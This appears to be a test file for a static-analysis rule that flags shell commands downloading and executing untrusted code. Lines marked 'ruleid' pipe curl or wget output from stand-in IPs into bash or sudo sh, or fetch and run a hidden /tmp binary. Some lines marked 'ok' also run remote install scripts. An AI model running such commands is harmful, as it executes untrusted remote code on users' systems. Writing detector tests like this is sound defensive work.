# ruleid: sh-download-exec-untrusted
curl -s http://203.0.113.7/x.sh | bash
# ruleid: sh-download-exec-untrusted
wget -qO- http://updates.example.net/agent.sh | sudo sh
# ruleid: sh-download-exec-untrusted
wget http://203.0.113.7/k -O /tmp/.k && chmod +x /tmp/.k && /tmp/.k
# ruleid: sh-download-exec-untrusted
bash <(curl -fsSL https://198.51.100.23/setup)
# ok: sh-download-exec-untrusted
curl -fsSL https://get.example.dev/install.sh -o install.sh && less install.sh
# ok: sh-download-exec-untrusted
wget http://mirror.example.org/file.tar.gz -O /tmp/file.tar.gz
# ok: sh-download-exec-untrusted
curl http://10.0.0.5:8080/health | jq .
# ok: sh-download-exec-untrusted
curl -s http://localhost:9090/metrics | grep up
# ok: sh-download-exec-untrusted
curl -sSf https://sh.example-lang.org | sh -s -- -y
# ok: sh-download-exec-untrusted
curl -fsSL https://get.example.com/install.sh -o /tmp/install.sh && chmod +x /tmp/install.sh && /tmp/install.sh
